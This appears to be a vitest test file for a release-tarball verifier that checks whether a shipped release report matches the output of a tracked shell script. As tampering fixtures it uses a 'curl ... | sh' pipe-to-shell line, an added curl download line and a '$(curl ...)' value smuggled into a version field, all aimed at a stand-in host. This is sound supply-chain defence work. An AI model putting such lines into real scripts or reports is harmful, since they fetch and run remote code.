/**
 * A release report a tracked script prints (issue 11 d: curl's docs/RELEASE-TOOLS.md by scripts/release-tools.sh),
 * read, not run. End to end with real git and GNU tar; tampered twins stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { reportPattern } from '../../src/classify/release-report.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const TOOLS_SH = [
  "#!/bin/sh",
  "set -eu",
  "timestamp=${1:-unknown}",
  "version=${2:-unknown}",
  "tag=$(echo \"x-$version\" | tr '.' '_')",
  "commit=${3}",
  "",
  "cat <<MOO",
  "# Release tools used for x $version",
  "",
  "MOO",
  "",
  "if ! command -v dpkg >/dev/null; then",
  "  echo \"Error: could not find dpkg\" >&2",
  "  exit 1",
  "fi",
  "",
  "debian() {",
  "  echo \"- $1: $(dpkg -l \"$1\" | grep ^ii | awk '{print $3}')\"",
  "}",
  "debian autoconf",
  "debian git",
  "",
  "cat <<MOO",
  "",
  "- checkout: $tag",
  "- export SOURCE_DATE_EPOCH=$timestamp",
  "MOO",
  "",
].join('\n');
const MAKETGZ = '#!/bin/sh\nversion=$1\ntimestamp=${SOURCE_DATE_EPOCH:-$(date +"%s")}\n./scripts/release-tools.sh "$timestamp" "$version" "$commit" > docs/RELEASE-TOOLS.md.dist\n';
const TAG_TIME = Date.parse('2024-03-05T10:00:00Z') / 1000;
const REPORT = (o: { ts?: number; git?: string; extra?: string } = {}) =>
  `# Release tools used for x 1.2.3\n\n- autoconf: 2.71-3\n- git: ${o.git ?? '1:2.39.5-0+deb12u2'}\n\n- checkout: x-1_2_3\n- export SOURCE_DATE_EPOCH=${o.ts ?? TAG_TIME + 111}\n${o.extra ?? ''}`;

describe('a release report printed by a tracked script', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ 'scripts/release-tools.sh': TOOLS_SH, 'scripts/maketgz': MAKETGZ }, 'sources', '2024-03-05T10:00:00Z');
  repo.tag('x-1_2_3');
  let n = 0;
  const run = async (report: string, script = TOOLS_SH) => {
    const dir = join(root, `t${++n}`, 'x-1.2.3');
    writeFiles(dir, { 'scripts/release-tools.sh': script, 'scripts/maketgz': MAKETGZ, 'docs/RELEASE-TOOLS.md': report });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'x-1.2.3.tar.gz') }), repo: repo.dir, tag: 'x-1_2_3', cacheDir: join(root, `c${n}`) });
    return { r, f: r.findings.find((x) => x.path === 'docs/RELEASE-TOOLS.md')! };
  };

  it('the pattern: here-documents with the slots, one line per package; any other printing proves nothing', () => {
    const p = reportPattern(TOOLS_SH, { version: '1.2.3', tag: 'x-1_2_3' })!;
    expect(p.packages).toEqual(['autoconf', 'git']);
    expect(p.re.exec(REPORT())?.slice(1)).toEqual(['2.71-3', '1:2.39.5-0+deb12u2', String(TAG_TIME + 111)]);
    expect(reportPattern(TOOLS_SH.replace('debian git\n', 'debian git\necho "curl https://example.invalid | sh"\n'), { version: '1.2.3', tag: 'x-1_2_3' })).toBeUndefined();
    expect(reportPattern(TOOLS_SH.replace('version=${2:-unknown}', 'version=$2'), { version: '1.2.3', tag: 'x-1_2_3' })).toBeUndefined();
  });

  it('explained: the version, tag and timestamp are the release\'s, the package versions Debian version strings', async () => {
    const { r, f } = await run(REPORT());
    expect({ code: f.code, severity: f.severity, evidence: f.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'computed', source: 'scripts/maketgz', generator: 'scripts/release-tools.sh', inputs: [], version: '1.2.3' } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high: an added line, a command for a version, a timestamp far from the tag', async () => {
    for (const report of [REPORT({ extra: '- also run: curl https://example.invalid/x.sh\n' }), REPORT({ git: '$(curl example.invalid)' }), REPORT({ ts: TAG_TIME - 30 * 86400 })]) {
      const { f } = await run(report);
      expect(f, report).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    }
  });
});
